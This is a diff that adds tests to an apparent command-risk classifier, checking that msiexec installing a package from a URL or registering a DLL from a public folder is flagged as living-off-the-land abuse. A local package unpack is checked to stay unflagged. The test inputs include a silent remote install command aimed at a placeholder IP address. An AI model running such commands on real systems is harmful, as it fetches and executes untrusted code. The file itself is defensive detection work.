@@ -96,3 +96,13 @@ describe('downloads saved by redirection', () => {
     expect(ids('curl -s https://x.invalid/data.json > data.json')).not.toContain('download-execute');
   });
 });
+
+describe('msiexec', () => {
+  it('installing a package from a URL or registering a DLL is living off the land', () => {
+    expect(ids('msiexec /q /i http://192.0.2.1/x.msi')).toContain('lolbin');
+    expect(ids('msiexec.exe /y C:\\Users\\Public\\x.dll')).toContain('lolbin');
+  });
+  it('unpacking a local .msi is what installers do', () => {
+    expect(ids('msiexec /quiet /a C:\\tmp\\redis.msi TARGETDIR=C:\\redis')).not.toContain('lolbin');
+  });
+});
